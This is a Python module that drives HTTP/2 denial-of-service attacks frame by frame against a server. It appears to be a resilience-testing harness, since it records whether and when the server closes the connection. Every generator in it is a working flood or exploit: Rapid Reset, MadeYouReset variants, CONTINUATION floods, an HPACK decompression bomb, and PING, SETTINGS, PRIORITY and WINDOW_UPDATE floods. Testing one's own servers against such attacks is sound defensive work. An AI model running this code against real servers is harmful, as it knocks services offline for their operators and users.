"""Attacks on an HTTP/2 server, frame by frame, until it has had enough.

An attack is a generator of units: bytes to send, made as they are needed, because a unit may
depend on what has come back. play() sends them in bursts and waits after each until the
server has looked at it, so that what it answers is not lost in the noise.
"""

import itertools
import select
import struct
from dataclasses import dataclass

from h2_wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
                     PING, PRIORITY, SETTINGS, Client, Response, block, frame, literal,
                     request_fields, reset_frame, window_update)
from wire import Closed

UNITS = 20_000  # after so many an attack gives up: the server tolerates it
BURST = 100


@dataclass
class Verdict:
    closed: bool  # by the server
    code: int | None  # of its GOAWAY
    units: int  # sent until then, to the burst


def play(port, attack, settings=None, burst=BURST, units=UNITS, windows="kept"):
    """One connection that attacks until it is closed or gives up."""
    sent = 0
    with Client(port, settings, windows=windows) as client:
        source = attack(client)
        try:
            while sent < units and not client.closed:
                pieces = list(itertools.islice(source, burst))
                if not pieces:
                    break
                client.send(b"".join(pieces))
                sent += len(pieces)
                _look(client, getattr(attack, "in_head", False))
            client.poll()
        except (OSError, Closed):
            _drain(client)
        return Verdict(client.closed, client.goaway and client.goaway[1], sent)


def _look(client, in_head):
    """Waits until the burst has been looked at. In the middle of a head a PING is not allowed."""
    if not in_head:
        return client.settled()
    select.select([client.socket], [], [], 0.05)
    client.poll()


def _drain(client):
    """What still came before the connection broke, the GOAWAY above all."""
    try:
        client.until_closed()
    except (OSError, AssertionError):
        client.closed = True


def _request(client, path="/", method="GET", end=True):
    """(stream, its HEADERS)"""
    stream = client.next_stream()
    client.responses[stream] = Response()
    flags = END_HEADERS | (END_STREAM if end else 0)
    return stream, frame(HEADERS, flags, stream, block(request_fields(method, path)))


# Streams opened and reset.

def rapid_reset(client):
    """CVE-2023-44487."""
    while True:
        stream, head = _request(client)
        yield head + reset_frame(stream)


def rapid_reset_in_flight(client):
    """The same, but each request has begun upstream before it is reset, a burst later."""
    while True:
        requests = [_request(client, "/slow/20000") for _ in range(BURST)]
        yield from (head for _, head in requests)
        yield from (reset_frame(stream) for stream, _ in requests)


# MadeYouReset, CVE-2025-8671: the server is made to reset.

def window_of_nothing(client):
    while True:
        stream, head = _request(client, "/slow/20000")
        yield head + window_update(stream, 0)


def window_overflow(client):
    while True:
        stream, head = _request(client, "/slow/20000")
        yield head + window_update(stream, 0x7fffffff)


def data_after_the_end(client):
    while True:
        stream, head = _request(client, "/slow/20000")
        yield head + frame(DATA, 0, stream, b"more")


def head_after_the_end(client):
    while True:
        stream, head = _request(client, "/slow/20000")
        yield head + frame(HEADERS, END_HEADERS | END_STREAM, stream, block([("x", "y")]))


def priority_of_wrong_length(client):
    while True:
        stream, head = _request(client, "/slow/20000")
        yield head + frame(PRIORITY, 0, stream, b"\0\0\0\0")


def priority_on_itself(client):
    while True:
        stream, head = _request(client, "/slow/20000")
        yield head + frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1))


def body_longer_than_its_length(client):
    while True:
        stream = client.next_stream()
        client.responses[stream] = Response()
        head = block(request_fields("POST", "/slow/20000", more=[("content-length", "1")]))
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(
            DATA, 0, stream, b"long" * 100)


def malformed_heads(client):
    while True:
        stream = client.next_stream()
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block([("x", "y")]))


# Heads.

def continuations(client):
    """CVE-2024-27316: a head that never ends."""
    stream = client.next_stream()
    yield frame(HEADERS, END_STREAM, stream, block(request_fields()))
    for number in itertools.count():
        yield frame(CONTINUATION, 0, stream, literal(f"x-{number}", "y" * 100))


def empty_continuations(client):
    """CVE-2019-9518."""
    yield frame(HEADERS, END_STREAM, client.next_stream(), block(request_fields()))
    while True:
        yield frame(CONTINUATION, 0, 1)


continuations.in_head = empty_continuations.in_head = True


def hpack_bomb(client):
    """16 KiB that decode into 60 MiB: one large entry of the dynamic table, named by one byte."""
    large = b"\x40" + literal("x", "b" * 3900)[1:]  # with incremental indexing
    while True:
        stream = client.next_stream()
        head = block(request_fields()) + large
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream,
                    head + b"\xbe" * (16384 - len(head)))


# Frames that only cost.

def settings(client):
    while True:
        yield frame(SETTINGS, payload=struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))


def pings(client):
    while True:
        yield frame(PING, payload=b"flooding")


def priorities(client):
    for number in itertools.count():
        yield frame(PRIORITY, 0, 2 * (number % 50_000) + 1, struct.pack(">IB", 0, 1))


def empty_data(client):
    """CVE-2019-9518."""
    stream, head = _request(client, "/echo", "POST", end=False)
    yield head
    while True:
        yield frame(DATA, 0, stream)


def padding_alone(client):
    """DATA that carries nothing but padding."""
    stream, head = _request(client, "/echo", "POST", end=False)
    yield head
    while True:
        yield frame(DATA, 0x8, stream, b"\1\0")


def empty_heads(client):
    """A new stream with a block of nothing each time."""
    while True:
        yield frame(HEADERS, END_HEADERS | END_STREAM, client.next_stream())


def window_updates(client):
    while True:
        yield window_update(0, 1)


def unknown_frames(client):
    while True:
        yield frame(0x42, 0, 0, b"what is this")


def tiny_windows(client):
    """With SETTINGS_INITIAL_WINDOW_SIZE of 1: a large answer, asked for byte by byte."""
    stream, head = _request(client, "/bytes/1000000")
    yield head
    while True:
        yield window_update(stream, 1)
